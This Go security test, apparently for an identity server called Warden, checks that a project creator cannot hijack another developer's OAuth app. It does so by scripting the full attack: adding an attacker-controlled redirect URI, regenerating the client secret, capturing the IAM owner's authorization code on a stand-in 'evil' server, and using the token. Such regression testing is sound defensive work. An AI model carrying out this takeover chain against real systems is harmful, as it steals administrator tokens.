package securitytest

import (
	"context"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/warden-id/warden/internal/login"
	"github.com/warden-id/warden/internal/store/testdb"
	"github.com/warden-id/warden/internal/wardentest"
	"golang.org/x/oauth2"
)

// TestProjectCreatorCannotHijackAnotherApp: an ORG_PROJECT_CREATOR (a
// third-party app's developer) must not take over an app it did not make —
// another developer's app that an IAM owner once allowed to use Warden's API
// — by adding its own redirect URI and regenerating the client secret, and so
// receive, when the IAM owner follows one link, a token for Warden's API in
// the IAM owner's name. In ZITADEL the creator manages only the projects it
// created (it becomes their PROJECT_OWNER); the IAM owner's consent was given
// to the app its developer made.
func TestProjectCreatorCannotHijackAnotherApp(t *testing.T) {
	each(t, func(t *testing.T, open testdb.Opener) {
		e := start(t, open(t), login.Options{AttemptsPerMinute: -1})
		f := newFixtures(e)
		orgID := e.Boot.Instance.DefaultOrgID
		_, devToken := f.caller(t, orgID, "ORG_PROJECT_CREATOR")
		rp := wardentest.NewRP(t, e.Instance, wardentest.RPOptions{Token: devToken}) // the developer's app
		apps := f.admin(t, "", "POST", v1+"/projects/"+rp.ProjectID+"/apps/_search", `{}`)
		appID := apps.Body["result"].([]any)[0].(map[string]any)["id"].(string)

		// The victim: an IAM owner who signs in at that app and allows it once.
		f.instanceRole(t, e.human("", "boss"), "IAM_OWNER")
		victim := wardentest.NewBrowser(t)
		v := victim.Get(rp.StartURL())
		v = victim.Submit(v, v.FormWith(t, "loginName"), map[string]string{"loginName": "boss"})
		v = victim.Submit(v, v.FormWith(t, "password"), map[string]string{"password": Password})
		if strings.Contains(v.Text(), "asks to use Warden's API") {
			v = victim.Submit(v, v.FormWith(t, "decision"), map[string]string{"decision": "allow"})
		}
		rp.AtCallback(t, v)

		// The attacker: another project creator of the org, with a server of its own.
		_, token := f.caller(t, orgID, "ORG_PROJECT_CREATOR")
		codes := make(chan string, 1)
		evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			select {
			case codes <- r.URL.Query().Get("code"):
			default:
			}
		}))
		defer evil.Close()
		app := v1 + "/projects/" + rp.ProjectID + "/apps/" + appID
		up := e.Do(t, "PUT", app+"/oidc_config", token, `{"redirectUris":["`+rp.Config.RedirectURL+`","`+evil.URL+`/cb"],
			"responseTypes":["OIDC_RESPONSE_TYPE_CODE"],"grantTypes":["OIDC_GRANT_TYPE_AUTHORIZATION_CODE"],
			"appType":"OIDC_APP_TYPE_WEB","authMethodType":"OIDC_AUTH_METHOD_TYPE_BASIC","devMode":true}`)
		regen := e.Do(t, "POST", app+"/oidc_config/_generate_client_secret", token, `{}`)
		t.Logf("the attacker rewrote another developer's app: redirect URIs %d, new client secret %d", up.Status, regen.Status)
		if up.Status != 200 || regen.Status != 200 {
			return // the takeover stopped here
		}
		cfg := oauth2.Config{ClientID: rp.ClientID, ClientSecret: regen.Str("clientSecret"), Endpoint: rp.Config.Endpoint,
			RedirectURL: evil.URL + "/cb", Scopes: []string{"openid", "urn:zitadel:iam:org:project:id:zitadel:aud"}}
		verifier := oauth2.GenerateVerifier()
		lv := victim.Get(cfg.AuthCodeURL("x", oauth2.S256ChallengeOption(verifier))) // the victim follows a link
		var code string
		select {
		case code = <-codes:
		default:
			t.Logf("no code reached the attacker; the victim's browser is at %s: %.200s", lv.URL, lv.Text())
			return
		}
		tok, err := cfg.Exchange(context.Background(), code, oauth2.VerifierOption(verifier))
		if err != nil {
			t.Logf("the stolen code did not exchange: %v", err)
			return
		}
		if r := e.Do(t, "POST", v1+"/orgs", tok.AccessToken, `{"name":"taken-over"}`); r.Status == 200 {
			t.Errorf("a project creator acted as the IAM owner (AddOrg %d) with a token it got, without a prompt, "+
				"through another developer's app it rewrote (redirect URIs %d, client secret %d)", r.Status, up.Status, regen.Status)
		}
	})
}
